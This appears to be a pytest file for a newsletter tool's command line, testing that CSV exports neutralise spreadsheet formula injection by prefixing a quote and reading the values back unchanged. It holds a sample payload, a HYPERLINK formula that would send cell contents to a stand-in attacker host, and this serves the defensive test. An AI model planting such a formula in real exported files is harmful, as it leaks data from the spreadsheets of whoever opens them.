"""Text that a spreadsheet would run as a formula is written to CSV as text, and read back unchanged.

Covers every CSV we write: recipients/suppressed.csv, `report --format csv`
and `audience --format csv` (OWASP CSV injection guidance: a leading `'`).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from newsletter.audience.lists import read_suppressed
from newsletter.cli import cli
from newsletter.core.csvcells import FORMULA_STARTS, read_cell, write_cell
from tests.support.smtp import SmtpTestServer

ISSUE = "2023-05-panel-reports"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your certificate")'


def run(project_dir: Path, *args: str) -> Result:
    return CliRunner().invoke(cli, ["--root", str(project_dir), *args])


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula_cells(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+44 20 7946 0000", "-jo@example.org", "@SUM(A1:A9)", "\t=1", "\r=1", HYPERLINK,
     "'=1+1", "'quoted'", "''", "'", "", "plain text", "a=b", "2023-05-15"],
)  # fmt: skip
def test_a_cell_round_trips_and_never_starts_a_formula(value: str) -> None:
    written = write_cell(value)
    assert read_cell(written) == value
    assert not written.startswith(FORMULA_STARTS)
    assert written == ("'" + value if value.startswith((*FORMULA_STARTS, "'")) else value)


def test_reading_leaves_a_quote_we_did_not_add_alone() -> None:
    assert read_cell("'Jo's list") == "'Jo's list"
    assert read_cell("O'Neill") == "O'Neill"
    assert write_cell(3) == 3 and write_cell(-3) == -3  # numbers are never formulas


def add_to_list(project_dir: Path, *addresses: str) -> None:
    with (project_dir / "recipients" / "lists" / "comms.csv").open(
        "a", encoding="utf-8", newline=""
    ) as handle:
        writer = csv.writer(handle)
        for address in addresses:
            writer.writerow([address, "Formula Person", "Trust", "health", "practitioner", ""])


def audience_counts(project_dir: Path) -> dict[str, int]:
    result = run(project_dir, "audience", ISSUE, "--format", "json")
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    return {"recipients": data["recipients"], "suppressed": data["suppressed"]}


def test_suppressed_csv_stores_formulas_as_text_and_reads_them_back(project_dir: Path) -> None:
    path = project_dir / "recipients" / "suppressed.csv"
    sample_rows = path.read_text(encoding="utf-8").splitlines()
    add_to_list(project_dir, "=1+2@example.org", "-jo@example.org")
    before = audience_counts(project_dir)

    first = run(project_dir, "unsubscribe", "--reason", "@SUM(A1:A9)", "--", "=1+2@example.org")
    second = run(project_dir, "unsubscribe", "--reason", HYPERLINK, "--", "-jo@example.org")
    assert first.exit_code == 0 and second.exit_code == 0, first.output + second.output

    text = path.read_text(encoding="utf-8")
    rows = cells(text)
    assert_no_formula_cells(rows)
    assert rows[-2][0::2] == ["'=1+2@example.org", "'@SUM(A1:A9)"]
    assert rows[-1][0::2] == ["'-jo@example.org", "'" + HYPERLINK]
    assert text.splitlines()[: len(sample_rows)] == sample_rows  # other rows untouched

    suppressed, problems = read_suppressed(path)
    assert problems == []
    assert suppressed["=1+2@example.org"].reason == "@SUM(A1:A9)"
    assert suppressed["-jo@example.org"].reason == HYPERLINK
    after = audience_counts(project_dir)
    assert after == {
        "recipients": before["recipients"] - 2,
        "suppressed": before["suppressed"] + 2,
    }

    # Rewriting the file (here: taking one person off) leaves the other quoted once, not twice.
    assert run(project_dir, "resubscribe", "--", "-jo@example.org").exit_code == 0
    rows = cells(path.read_text(encoding="utf-8"))
    assert rows[-1] == ["'=1+2@example.org", rows[-1][1], "'@SUM(A1:A9)"]
    assert "-jo@example.org" not in read_suppressed(path)[0]
    assert run(project_dir, "unsubscribe", "--", "=1+2@example.org").output.endswith(
        "was already on the suppression list; nothing changed\n"
    )


def test_report_csv_and_the_hard_bounce_keep_a_formula_address_as_text(
    project_dir: Path, smtp_server: SmtpTestServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    smtp_server.configure(monkeypatch)
    add_to_list(project_dir, "-jo@example.org")
    smtp_server.fail("-jo@example.org", 550)
    sent = run(project_dir, "send", ISSUE, "--send", "--yes", "--rate", "0")
    assert sent.exit_code == 1, sent.output  # one permanent failure

    report = run(project_dir, "report", ISSUE, "--format", "csv")
    assert report.exit_code == 0, report.output
    rows = cells(report.stdout)
    assert_no_formula_cells(rows)
    assert rows[0] == ["email", "status", "reason", "at"]
    [failure] = [row for row in rows if row[0] == "'-jo@example.org"]
    assert failure[1] == "failed"
    assert failure[2].startswith("550 ")

    # The hard bounce went into suppressed.csv as text, and is read back as the address.
    path = project_dir / "recipients" / "suppressed.csv"
    assert cells(path.read_text("utf-8"))[-1][0::2] == ["'-jo@example.org", "hard-bounce"]
    assert read_suppressed(path)[0]["-jo@example.org"].reason == "hard-bounce"


def test_audience_csv_keeps_a_formula_segment_name_as_text(project_dir: Path) -> None:
    segments = project_dir / "recipients" / "segments.yaml"
    segments.write_text(
        segments.read_text(encoding="utf-8")
        + '  "-leads":\n    description: a name a spreadsheet would read as a sum\n'
        "    lists: [lead-officers]\n",
        encoding="utf-8",
    )
    issue = project_dir / "issues" / f"{ISSUE}.yaml"
    text = issue.read_text(encoding="utf-8")
    assert text.count("audience: [all-practitioners]\n") == 1
    issue.write_text(
        text.replace(
            "audience: [all-practitioners]\n", 'audience: [all-practitioners, "-leads"]\n'
        ),
        encoding="utf-8",
    )
    result = run(project_dir, "audience", ISSUE, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = cells(result.stdout)
    assert_no_formula_cells(rows)
    assert ["segment", "'-leads"] in [row[:2] for row in rows]
